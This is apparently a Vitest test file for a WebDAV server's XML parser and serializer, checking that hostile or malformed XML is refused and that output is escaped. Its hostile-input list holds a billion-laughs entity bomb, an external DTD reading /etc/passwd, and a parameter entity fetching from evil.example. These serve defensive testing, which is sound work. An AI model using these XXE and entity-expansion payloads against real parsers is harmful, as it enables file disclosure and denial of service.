import { expect, test } from 'vitest'
import { DavProblem } from '../dav-problem.ts'
import { readXml, xmlLimits } from './read-xml.ts'
import { emptyElement, xmlText } from './write-xml.ts'

test('a request is read with its namespaces, attributes and texts', () => {
  const xml = `\ufeff<?xml version="1.0"?>\n<!-- c --><a:prop xmlns:a="DAV:" xmlns="urn:x">
    <one n='&lt;1&#x3e;' a:m="2"/><a:two>&amp;<![CDATA[<b>&]]>\u00e9</a:two><b xmlns="">t</b></a:prop>\n`
  expect(readXml(xml)).toMatchObject({
    namespace: 'DAV:',
    name: 'prop',
    children: [
      { namespace: 'urn:x', name: 'one', attributes: { n: '<1>', 'a:m': '2' } },
      { namespace: 'DAV:', name: 'two', text: '&<b>&\u00e9' },
      { namespace: '', name: 'b', text: 't' },
    ],
  })
})

const laughs = '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
const hostile = [
  laughs,
  '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
  '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><a/>',
  '<a>&unknown;</a>',
  '<a>&#0;</a>',
  '<a>&#xD800;</a>',
  '<a>&#x110000;</a>',
  '<a>& b</a>',
  '',
  'text',
  '<a>',
  '<a></b>',
  '<a/><b/>',
  '<a b></a>',
  '<a b=c/>',
  '<a b="1" b="2"/>',
  '<a b="<"/>',
  '<x:a/>',
  '<x:a xmlns:x=""/>',
  '<a x:b="1"></a',
  '<1a/>',
  '<![CDATA[x]]>',
  '<a/>text',
  `<${'a'.repeat(xmlLimits.name + 1)}/>`,
  `<a xmlns="${'a'.repeat(xmlLimits.namespace + 1)}"/>`,
  '<a>'.repeat(xmlLimits.depth + 1),
  `<a>${'<b/>'.repeat(xmlLimits.elements)}</a>`,
  `<a ${Array.from({ length: xmlLimits.attributes + 1 }, (_, index) => `b${index}="1"`).join(' ')}/>`,
  ' '.repeat(xmlLimits.characters + 1),
]

test('document types, entities, and everything malformed or beyond the limits is refused with 400', () => {
  for (const xml of hostile) {
    let thrown: unknown
    try {
      readXml(xml)
    } catch (error) {
      thrown = error
    }
    expect([xml.slice(0, 80), thrown instanceof DavProblem && thrown.status]).toEqual([xml.slice(0, 80), 400])
  }
})

test('texts that are made to be slow are read in linear time', () => {
  const half = 400_000
  for (const xml of [
    `<a>${'&'.repeat(half)}</a>`,
    `<a ${' '.repeat(half)}`,
    `<${'!--'.repeat(half)}`,
    `<a b="${'&lt'.repeat(half)}"/>`,
  ]) {
    const begun = process.threadCpuUsage()
    expect(() => readXml(xml)).toThrow(DavProblem)
    expect(process.threadCpuUsage(begun).user).toBeLessThan(1_000_000)
  }
})

test('many elements that declare a prefix within many others are read in linear time', () => {
  const prefixes = (level: number) => Array.from({ length: 15 }, (_, index) => ` xmlns:p${level}-${index}="u"`).join('')
  const open = Array.from({ length: 14 }, (_, level) => `<a${prefixes(level)}>`).join('')
  const begun = process.threadCpuUsage()
  readXml(`${open}${'<b xmlns:p="u"/>'.repeat(24_000)}${'</a>'.repeat(14)}`)
  expect(process.threadCpuUsage(begun).user).toBeLessThan(500_000)
})

test('no name and no text of a client changes the form of a response', () => {
  expect(xmlText('<a b="c">&\u0000\ud800]]>')).toBe('&#60;a b=&#34;c&#34;&#62;&#38;\ufffd\ufffd]]&#62;')
  expect(emptyElement({ namespace: '"><evil/>', name: 'a' })).toBe('<x:a xmlns:x="&#34;&#62;&#60;evil/&#62;"/>')
  expect(emptyElement({ namespace: '__proto__', name: 'constructor' })).toBe('<x:constructor xmlns:x="__proto__"/>')
})
